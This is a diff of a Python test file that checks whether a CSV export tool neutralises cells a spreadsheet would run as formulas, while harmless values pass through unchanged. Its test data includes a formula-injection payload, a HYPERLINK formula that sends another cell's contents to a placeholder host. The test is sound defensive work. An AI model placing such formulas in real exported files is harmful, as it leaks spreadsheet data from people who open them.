@@ -118,11 +118,21 @@ def test_fixes_are_recorded_once_and_the_output_is_whole(case: Path, desk: Desk,
         assert out.read_text().splitlines()[1].startswith("1,T,2026-03-03T12:00:00Z,SPO/2026/1,Zone A,1,inside,-70.")
 
 
-def test_a_cell_of_any_text_is_that_very_text_in_the_output(case: Path) -> None:
+def test_a_cell_that_a_spreadsheet_would_run_is_text_in_the_output(case: Path) -> None:
     cell = '=HYPERLINK("http://example.test/?"&A1,"open")'
     quoted = '"' + cell.replace('"', '""') + '"'
     file, out = fixes(case / "fixes.csv", quoted + ROW[1:], f"T,{quoted},50.801,0.0,10"), case / "out.csv"
     assert counts(file, "--out", out)["refused"] == 1
     with out.open(newline="") as table, (case / "out.csv.refused.csv").open(newline="") as refused:
-        assert next(csv.DictReader(table))["device"] == cell
-        assert next(csv.DictReader(refused))["value"] == cell
+        assert next(csv.DictReader(table))["device"] == f"'{cell}"
+        assert next(csv.DictReader(refused))["value"] == f"'{cell}"
+    assert counts(file, "--out", case / "out.parquet")["answered"] == 1
+    assert pq.read_table(case / "out.parquet").to_pylist()[0]["device"] == cell
+
+
+@pytest.mark.parametrize("device", ["-5", "+447700900123", "tag 7", "A=1", "1e5", "T-1"])
+def test_a_device_that_runs_nowhere_is_that_very_text(case: Path, device: str) -> None:
+    file, out = fixes(case / "fixes.csv", device + ROW[1:]), case / "out.csv"
+    counts(file, "--out", out)
+    with out.open(newline="") as table:
+        assert next(csv.DictReader(table))["device"] == device
